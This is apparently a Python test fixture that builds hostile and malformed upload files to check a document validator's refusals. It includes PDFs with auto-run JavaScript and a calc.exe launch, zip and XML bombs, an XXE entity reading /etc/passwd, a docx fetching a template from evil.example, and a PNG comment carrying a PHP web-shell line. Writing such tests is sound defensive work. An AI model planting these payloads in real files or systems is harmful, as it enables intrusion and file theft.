"""Hostile and broken files, built by code; each by the id of its case."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Mapping
from io import BytesIO
from itertools import pairwise
from types import MappingProxyType
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZIP_LZMA, ZipFile, ZipInfo

import pypdfium2
from PIL import Image

from tests.documents import samples

CANARY = b"fetch('/canary');document.title='canary'"
HTML = b"<!doctype html><html><script>" + CANARY + b"</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>' + CANARY + b"</script></svg>"


def pdf_of(*objects: bytes, trailer: bytes = b"/Root 1 0 R") -> bytes:
    """Return a PDF written by hand: its objects in order, with a right table of places."""
    out, places = b"%PDF-1.7\n", []
    for number, each in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    return out + b"trailer<<%s/Size %d>>\nstartxref\n%d\n%%%%EOF\n" % (trailer, size, start)


PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>"
INK = b"0 0 300 300 re f"


def stream(content: bytes, more: bytes = b"") -> bytes:
    """Return a stream object."""
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (more, len(content), content)


def pdf_with(catalog: bytes = b"", page: bytes = PAGE, *further: bytes) -> bytes:
    """Return a PDF with ink on its page and something more in its catalog."""
    root = b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog
    return pdf_of(root, PAGES, page, stream(INK), *further)


def javascript() -> bytes:
    """Return a PDF that runs a script when it is opened."""
    return pdf_with(b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>")


def packed_javascript() -> bytes:
    """Return a PDF whose script stands in a compressed object, its name written with an escape."""
    inner = b"9 0 <</S/J#61vaScript/JS(app.alert\\(1\\))>>"
    packed = stream(zlib.compress(inner), b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")
    return pdf_with(b"/OpenAction 9 0 R", PAGE, packed)


def launch() -> bytes:
    """Return a PDF that starts a program."""
    return pdf_with(b"/OpenAction<</S/Launch/F(calc.exe)>>")


def embedded_file() -> bytes:
    """Return a PDF with a file attached."""
    document = pypdfium2.PdfDocument(samples.pdf())
    attached = document.new_attachment("invoice.xml")
    attached.set_data(b"<xml/>")
    return samples.saved(document)


def bomb() -> bytes:
    """Return a PDF whose page inflates to gigabytes."""
    packer = zlib.compressobj(1)
    block = b" " * (1 << 20)
    content = b"".join(packer.compress(block) for _ in range(600)) + packer.flush()
    twice = zlib.compress(content, 9)
    return pdf_of(
        b"<</Type/Catalog/Pages 2 0 R>>",
        PAGES,
        PAGE,
        stream(twice, b"/Filter[/FlateDecode/FlateDecode]"),
    )


def page_loop() -> bytes:
    """Return a PDF whose page tree holds itself."""
    return pdf_of(
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2/Parent 2 0 R>>"
    )


def table_loop() -> bytes:
    """Return a PDF whose table of places points back to itself."""
    made = pdf_with()
    start = made.rindex(b"xref\n0")
    return made.replace(b"trailer<<", b"trailer<</Prev %d" % start)


def many_pixels() -> bytes:
    """Return a PNG that says 60,000 by 60,000 dots; its header is all that may be read."""
    side = 60_000
    body = zlib.compress(b"\0" * (1 + side // 8) * 1000)
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")
    )


def _chunk(name: bytes, content: bytes) -> bytes:
    return (
        struct.pack(">I", len(content))
        + name
        + content
        + struct.pack(">I", zlib.crc32(name + content))
    )


def frames(form: str, count: int) -> bytes:
    """Return a moving picture or a file of many pages."""
    out = BytesIO()
    one = Image.new("P", (4, 4))
    others = [Image.new("P", (4, 4), number % 256) for number in range(1, count)]
    one.save(out, form, save_all=True, append_images=others)
    return out.getvalue()


def png_with_text() -> bytes:
    """Return a PNG that carries a script in its text."""
    made = samples.picture("PNG")
    note = _chunk(b"tEXt", b"Comment\0<?php system($_GET[0]); ?><script>" + CANARY + b"</script>")
    return made[:33] + note + made[33:]


def laughs() -> bytes:
    """Return a docx whose main part multiplies an entity a billion times."""
    names = "abcdefghij"
    rules = "".join(f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in pairwise(names))
    text = f'<!DOCTYPE x [<!ENTITY a "ha">{rules}]><w:document xmlns:w="w">&j;</w:document>'
    return samples.docx_with(word__document_dot_xml=text.encode())


def entity_of_a_file() -> bytes:
    """Return a docx that asks for a file of the reader's machine."""
    text = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document xmlns:w="w">&e;</w:document>'
    return samples.docx_with(word__document_dot_xml=text)


def remote_template() -> bytes:
    """Return a docx that fetches its template from elsewhere."""
    relation = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="a" Type="http://x/attachedTemplate" TargetMode="External" '
        b'Target="http://evil.example/a.dotm"/></Relationships>'
    )
    return samples.docx_with(word___rels__settings_dot_xml_dot_rels=relation)


def many_photos() -> bytes:
    """Return a docx of 500 parts that inflate to 300 MB."""
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED, compresslevel=1) as made:
        for name, content in samples.unzipped(samples.docx()).items():
            made.writestr(name, content)
        for number in range(500):
            made.writestr(f"word/media/{number}.bin", b"\0" * 614_400)
    return out.getvalue()


def revised() -> bytes:
    """Return a docx with a deleted phrase and comments."""
    parts = samples.unzipped(samples.docx("正文"))
    text = parts["word/document.xml"].replace(
        b"</w:body>", b"<w:p><w:del w:id='1' w:author='x'><w:r/></w:del></w:p></w:body>"
    )
    return samples.zipped({**parts, "word/document.xml": text, "word/comments.xml": b"<c/>"})


def changed_after_signing() -> bytes:
    """Return a PDF with a signature that covers only its first part."""
    signed = pdf_with(b"", PAGE, b"<</Type/Sig/ByteRange[0 100 200 100]/Contents<00>>>")
    return signed + b"4 0 obj\n<</New true>>\nendobj\n%%EOF\n"


def docx_entries(change: Callable[[ZipInfo], None]) -> bytes:
    """Return a docx whose directory says something else of its main part."""
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as made:
        for name, content in samples.unzipped(samples.docx()).items():
            made.writestr(name, content)
        change(made.getinfo("word/document.xml"))
    return out.getvalue()


def says_ten_gigabytes(entry: ZipInfo) -> None:
    """Let the directory announce 10 GB."""
    entry.file_size = 10_000_000_000


def says_locked(entry: ZipInfo) -> None:
    """Let the directory say that a password is asked."""
    entry.flag_bits |= 0x1


def dense_docx() -> bytes:
    """Return a docx with a part of 60 MB in a few kilobytes."""
    return samples.docx_with(word__notes_dot_xml=b" " * 60_000_000)


def many_entries() -> bytes:
    """Return a docx with more parts than any honest one."""
    more = {f"word/a{number}.xml": b"" for number in range(2_100)}
    return samples.zipped({**samples.unzipped(samples.docx()), **more})


def twice_the_same() -> bytes:
    """Return a docx with two main parts of one name."""
    made = samples.zipped({**samples.unzipped(samples.docx()), "word/document.xmk": b"<a/>"})
    return made.replace(b"word/document.xmk", b"word/document.xml")


def plain_zip(name: str = "a.pdf", method: int = ZIP_DEFLATED, mode: int = 0) -> bytes:
    """Return a zip that is no office file."""
    out = BytesIO()
    with ZipFile(out, "w", method) as made:
        entry = ZipInfo(name)
        entry.external_attr = mode << 16
        entry.compress_type = method
        made.writestr(entry, b"/etc/passwd" if mode else samples.pdf())
    return out.getvalue()


REFUSED: Mapping[str, tuple[str, bytes, str]] = MappingProxyType(
    {
        "DOC-002": (
            "制度.docx",
            samples.docx_with(word__vbaProject_dot_bin=b"\xd0\xcf\x11\xe0"),
            "macro",
        ),
        "DOC-003": ("制度.docx", remote_template(), "remote_part"),
        "DOC-004": ("制度.docx", laughs(), "damaged"),
        "DOC-005": ("制度.docx", entity_of_a_file(), "entities"),
        "DOC-008": ("照片.docx", many_photos(), "too_large"),
        "DOC-010-rtf": ("制度.doc", b"{\\rtf1 text}", "foreign_kind"),
        "DOC-010-html": ("制度.doc", HTML, "foreign_kind"),
        "DOC-011-js": ("证书.pdf", javascript(), "active_pdf"),
        "DOC-011-packed": ("证书.pdf", packed_javascript(), "active_pdf"),
        "DOC-011-launch": ("证书.pdf", launch(), "active_pdf"),
        "DOC-012": ("发票.pdf", embedded_file(), "file_in_pdf"),
        "DOC-014-zip": ("证书.pdf", samples.pdf() + samples.zipped({"a": b"a"}), "two_kinds"),
        "DOC-014-html": ("证书.pdf", HTML + samples.pdf(), "foreign_kind"),
        "DOC-014-late": ("证书.pdf", b"\n\n" + samples.pdf(), "foreign_kind"),
        "DOC-017-pages": ("证书.pdf", page_loop(), "damaged_pdf"),
        "DOC-019": ("证书.pdf", samples.pdf("a", "b")[:-200], "truncated_pdf"),
        "DOC-026": ("论文.caj", b"CAJ\x00\x01", "foreign_kind"),
        "DOC-002-doc": ("制度.doc", samples.compound("WordDocument", "Macros"), "macro"),
        "locked-doc": ("制度.doc", samples.compound("WordDocument", flags=0x0100), "encrypted"),
        "IMG-001": ("大图.png", many_pixels(), "many_pixels"),
        "IMG-002-gif": ("动图.gif", frames("GIF", 1000), "foreign_kind"),
        "IMG-012": ("证书.jpg", b"MZ\x90\x00" + b"\0" * 60, "foreign_kind"),
        "IMG-014": ("扫描.tif", frames("TIFF", 200), "foreign_kind"),
        "FIL-005": ("证书.pdf.exe", b"MZ\x90\x00", "foreign_kind"),
        "FIL-006": ("证书\u202efdp.exe", b"MZ\x90\x00", "foreign_kind"),
        "FIL-029-html": ("证书.pdf", HTML, "foreign_kind"),
        "FIL-029-svg": ("照片.jpg", SVG, "foreign_kind"),
        "ZIP-002": ("制度.docx", docx_entries(says_ten_gigabytes), "too_large"),
        "ZIP-003": ("制度.docx", dense_docx(), "too_large"),
        "ZIP-004": ("制度.docx", many_entries(), "too_large"),
        "ZIP-005": ("材料.zip", plain_zip("../a.pdf"), "foreign_kind"),
        "ZIP-007": ("材料.zip", plain_zip("link", mode=0o120777), "foreign_kind"),
        "ZIP-011": ("制度.docx", docx_entries(says_locked), "encrypted"),
        "ZIP-012": (
            "材料.zip",
            plain_zip("a.pdf").replace(b"a.pdf", b"b.exe", 1),
            "foreign_kind",
        ),
        "ZIP-013": ("材料.zip", b"MZ" + plain_zip() + b"more", "foreign_kind"),
        "ZIP-014": ("制度.docx", docx_entries(says_ten_gigabytes), "too_large"),
        "ZIP-017-lzma": ("材料.zip", plain_zip(method=ZIP_LZMA), "foreign_kind"),
        "ZIP-017-bzip2": ("材料.zip", plain_zip(method=ZIP_BZIP2), "foreign_kind"),
        "ZIP-020": ("制度.docx", twice_the_same(), "damaged"),
        "ZIP-015-rar": ("材料.rar", b"Rar!\x1a\x07\x01\x00", "foreign_kind"),
        "ZIP-015-7z": ("材料.7z", b"7z\xbc\xaf\x27\x1c", "foreign_kind"),
        "ZIP-015-gz": ("材料.tar.gz", b"\x1f\x8b\x08\x00", "foreign_kind"),
    }
)
"""Files that are not taken: name, bytes, code of the refusal."""

TAKEN: Mapping[str, tuple[str, bytes, str, tuple[str, ...]]] = MappingProxyType(
    {
        "DOC-007": ("制度.docx", revised(), "office", ("revisions",)),
        "DOC-017-table": ("证书.pdf", table_loop(), "pdf", ()),
        "DOC-018": (
            "大页.pdf",
            pdf_with(b"", PAGE.replace(b"595 842", b"1000000 1000000")),
            "pdf",
            ("huge_page",),
        ),
        "DOC-020": ("空白.pdf", samples.pdf(" "), "pdf", ("blank_pdf",)),
        "DOC-021": ("签章.pdf", changed_after_signing(), "pdf", ("changed_after_signing",)),
        "DOC-023": ("无章.pdf", samples.pdf("no stamp"), "pdf", ()),
        "DOC-025": ("文件.ofd", samples.ofd(), "ofd", ()),
        "DOC-028": (
            "无字体.pdf",
            pdf_with(
                b"",
                PAGE[:-2] + b"/Resources<</Font<</F 5 0 R>>>>>>",
                b"<</Type/Font/Subtype/Type0/BaseFont/SimSun/Encoding/GBK-EUC-H/DescendantFonts[]>>",
            ),
            "pdf",
            (),
        ),
        "IMG-002-png": ("动图.png", frames("PNG", 300), "picture", ()),
        "IMG-004": ("照片.jpg", samples.picture(turned=6), "picture", ()),
        "IMG-006": ("照片.png", png_with_text(), "picture", ()),
        "IMG-007": (
            "照片.jpg",
            samples.picture() + samples.zipped({"a.html": HTML}),
            "picture",
            ("two_kinds",),
        ),
        "IMG-009-cmyk": ("印刷.jpg", samples.picture(mode="CMYK"), "picture", ()),
        "IMG-009-grey": ("灰度.png", samples.picture("PNG", mode="L"), "picture", ()),
        "IMG-009-16": ("深灰.png", samples.picture("PNG", mode="I;16"), "picture", ()),
        "IMG-010": ("照片.jpg", samples.scan()[:-20_000], "picture", ("truncated_picture",)),
        "IMG-016": ("照片.JPEG", samples.picture(size=(20, 20)), "picture", ()),
    }
)
"""Files that are taken: name, bytes, kind, codes of the notes."""
